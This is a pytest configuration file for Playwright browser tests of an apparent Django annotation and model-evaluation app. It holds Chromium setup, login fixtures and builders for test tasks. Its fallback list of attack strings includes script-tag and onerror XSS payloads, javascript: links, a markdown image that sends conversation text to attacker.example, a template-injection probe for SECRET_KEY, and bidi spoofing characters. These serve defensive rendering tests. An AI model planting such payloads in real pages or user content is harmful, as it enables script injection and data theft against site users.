"""Playwright with Debian's Chromium (see shared/notes/browser-tests.md) and small builders of the
data the page tests need."""
from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from annotations.models import CandidateReply, ModelVersion, Role, TaskKind
from annotations.services.imports import content_hash

from ..factories import MembershipFactory, ProjectFactory, ReplyFactory, TaskFactory, UserFactory

os.environ.setdefault("DJANGO_ALLOW_ASYNC_UNSAFE", "true")

CHROMIUM = os.environ.get("CHROMIUM_PATH", "/usr/lib/chromium/chromium")
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync"]
PASSWORD = "pw-for-tests-only"
# shared/ sits beside the project root, on every machine and in CI
ATTACKS_PATH = Path(os.environ.get("LSW_ATTACKS", Path(__file__).resolve().parents[3] / "shared" / "data"
                                   / "attacks.jsonl"))
# Used when the shared file is not there (a fresh clone): the cases that matter in a browser.
FALLBACK_ATTACKS = [
    "<script>document.title='pwned'</script>Hello",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<a href=\"javascript:alert(1)\">click me</a>",
    "<svg><script>alert(1)</script></svg>",
    "[click](javascript:alert(document.cookie))",
    "![loading](https://attacker.example/collect?q=SECRET_CONVERSATION_TEXT)",
    "<iframe src=\"https://attacker.example\"></iframe>",
    "<style>body{display:none}</style>Text",
    "\"><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "\u202eevil.exe\u202c and zero\u200bwidth text",
]


def attack_texts(max_chars: int | None = None) -> list[str]:
    """The attack texts as they can be stored: PostgreSQL text cannot hold NUL, so it is dropped;
    ``max_chars`` trims the oversize case for fields with a length limit."""
    texts = FALLBACK_ATTACKS
    if ATTACKS_PATH.exists():
        texts = [json.loads(line)["text"] for line in ATTACKS_PATH.read_text().splitlines() if line.strip()]
    return [t.replace("\x00", "")[:max_chars] for t in texts]


@pytest.fixture(scope="session")
def browser_type_launch_args(browser_type_launch_args):
    if not Path(CHROMIUM).exists():
        pytest.skip(f"Chromium not installed at {CHROMIUM} (apt-get install -y chromium)")
    return {**browser_type_launch_args, "executable_path": CHROMIUM,
            "args": [*browser_type_launch_args.get("args", []), *CHROMIUM_ARGS]}


@pytest.fixture(scope="session")
def browser_context_args(browser_context_args):
    return {**browser_context_args, "viewport": {"width": 1280, "height": 800}}


def model_version() -> ModelVersion:
    return ModelVersion.objects.get_or_create(name="test-model")[0]


def demonstration_task(project, *, prompt="How do I boil an egg?", drafts=("Draft one.", "Draft two.")):
    task = TaskFactory(project=project, kind=TaskKind.DEMONSTRATION,
                       conversation=[{"role": "user", "content": prompt}])
    mv = model_version()
    replies = [ReplyFactory(task=task, content=text, source=CandidateReply.Source.MODEL, model_version=mv)
               for text in drafts]
    return task, replies


def comparison_task(project, *, replies=("Reply one.", "Reply two.", "Reply three.", "Reply four."),
                    conversation=None):
    conversation = conversation or [{"role": "user", "content": "Which is the best answer?"}]
    task = TaskFactory(project=project, kind=TaskKind.COMPARISON, conversation=conversation,
                       content_hash=content_hash(TaskKind.COMPARISON, conversation, list(replies)))
    return task, [ReplyFactory(task=task, content=text, for_ranking=True) for text in replies]


@pytest.fixture
def labeller(db):
    """A project (instructions published) and an annotator in it."""
    project = ProjectFactory(instructions="# Guidelines\n\nWrite **helpful**, truthful, harmless replies.")
    user = UserFactory()
    MembershipFactory(project=project, user=user, role=Role.ANNOTATOR)
    return project, user


def log_in(page, live_server, user, next_path="/"):
    page.goto(f"{live_server.url}/accounts/login/?next={next_path}")
    page.fill("input[name=username]", user.username)
    page.fill("input[name=password]", PASSWORD)
    page.click("form.login button[type=submit]")
    page.wait_for_load_state()


@pytest.fixture
def logged_in(page, live_server, client):
    """logged_in(user) -> the page with that user's session cookie set (no form round trip)."""

    def make(user):
        client.force_login(user)
        page.context.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value,
                                   "url": live_server.url}])
        return page

    return make


def eval_run_with_battles(project, *, n=3, replies=None, names=("model-x", "model-y")):
    """A finished eval run of two model versions with ``n`` battles (no model server needed)."""
    from models_service.evaluation.models import Battle, EvalPrompt, EvalReply, EvalRun, EvalSet

    eval_set = EvalSet.objects.create(project=project, status="ready")
    run = EvalRun.objects.create(project=project, eval_set=eval_set, status="done")
    versions = [ModelVersion.objects.get_or_create(name=name)[0] for name in names]
    run.model_versions.set(versions)
    for i in range(n):
        prompt = EvalPrompt.objects.create(eval_set=eval_set, conversation=[{"role": "user", "content": f"Q{i}?"}],
                                           prompt_key=f"k{i}", source="project")
        texts = replies[i] if replies else (f"Reply one to {i}.", f"Reply two to {i}.")
        left, right = (EvalReply.objects.create(run=run, prompt=prompt, model_version=v, content=t)
                       for v, t in zip(versions, texts, strict=True))
        Battle.objects.create(run=run, prompt=prompt, left=left, right=right,
                              pair_key=f"{versions[0].pk}:{versions[1].pk}")
    EvalRun.objects.filter(pk=run.pk).update(battles_created=n)
    return run
